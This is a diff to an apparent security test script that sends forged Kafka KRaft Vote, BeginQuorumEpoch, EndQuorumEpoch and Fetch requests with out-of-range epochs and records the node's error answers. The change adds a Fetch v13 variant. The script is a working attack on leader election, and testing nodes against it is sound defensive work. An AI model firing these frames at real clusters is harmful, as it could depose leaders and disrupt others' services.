@@ -138,8 +138,10 @@ def fetch_snapshot(corr: int, replica_id: int, leader_epoch: int, snapshot_epoch
         + uvarint(2) + topic + b"\x00"
 
 
-def fetch(corr: int, replica_id: int, leader_epoch: int, last_fetched_epoch: int) -> bytes:
-    """Fetch v17, as kafka-python encodes it."""
+def fetch(corr: int, replica_id: int, leader_epoch: int, last_fetched_epoch: int,
+          version: int = 17) -> bytes:
+    """Fetch v17 (the shape the node's direct codec reads) or v13 (its general path only), as
+    kafka-python encodes it."""
     R = FetchRequest
     P = R.FetchTopic.FetchPartition
     req = R(replica_state=R.ReplicaState(replica_id=replica_id, replica_epoch=-1),
@@ -150,7 +152,7 @@ def fetch(corr: int, replica_id: int, leader_epoch: int, last_fetched_epoch: int
                 last_fetched_epoch=last_fetched_epoch, log_start_offset=-1,
                 partition_max_bytes=1 << 20)])])
     req.with_header(correlation_id=corr, client_id="attacker")
-    return bytes(req.encode(version=17, header=True, framed=True))[4:]
+    return bytes(req.encode(version=version, header=True, framed=True))[4:]
 
 
 # ---------------------------------------------------------------- answers
@@ -213,8 +215,8 @@ def fetch_snapshot_answer(data: bytes) -> dict[str, int]:
     return {"top_error": top, "error": r.take(">h")}
 
 
-def fetch_answer(data: bytes) -> dict[str, int]:
-    resp = FetchResponse.decode(data, version=17, header=True)
+def fetch_answer(data: bytes, version: int) -> dict[str, int]:
+    resp = FetchResponse.decode(data, version=version, header=True)
     part = resp.responses[0].partitions[0]
     return {"top_error": resp.error_code, "error": part.error_code,
             "leader_id": part.current_leader.leader_id,
@@ -235,7 +237,7 @@ def describe(address: tuple[str, int]) -> dict[str, int]:
 
 def attack(address: tuple[str, int], leader: int, voter: int) -> dict[str, dict[str, int]]:
     """Every forged request, each on its own connection; name -> what its answer said."""
-    sent = {
+    sent: dict[str, tuple[bytes, bool | int | str]] = {
         # the forged Vote that deposed a leader: the int32 maximum, in the leader's name
         "vote": (vote(1, BIG, leader, BIG - 1, 2**62), True),
         "vote_last_offset_epoch": (vote(2, 5, leader, BIG, 2**62), True),
@@ -243,16 +245,17 @@ def attack(address: tuple[str, int], leader: int, voter: int) -> dict[str, dict[
         "begin_quorum_epoch": (begin_quorum(4, leader, BIG), False),
         "begin_quorum_epoch_negative": (begin_quorum(5, leader, -2), False),
         "end_quorum_epoch": (end_quorum(6, leader, BIG), False),
-        "fetch_current_leader_epoch": (fetch(7, voter, BIG, 0), None),
-        "fetch_last_fetched_epoch": (fetch(8, voter, 1, BIG), None),
+        "fetch_current_leader_epoch": (fetch(7, voter, BIG, 0), 17),
+        "fetch_last_fetched_epoch": (fetch(8, voter, 1, BIG), 17),
+        "fetch_v13_current_leader_epoch": (fetch(11, voter, BIG, 0, 13), 13),
         "fetch_snapshot_current_leader_epoch": (fetch_snapshot(9, voter, BIG, 1), "snap"),
         "fetch_snapshot_epoch": (fetch_snapshot(10, voter, 1, BIG), "snap"),
     }
     out: dict[str, dict[str, int]] = {}
     for name, (frame, kind) in sent.items():
         data = call(address, frame)
-        if kind is None:
-            out[name] = fetch_answer(data)
+        if isinstance(kind, int) and not isinstance(kind, bool):
+            out[name] = fetch_answer(data, kind)
         elif kind == "snap":
             out[name] = fetch_snapshot_answer(data)
         else:
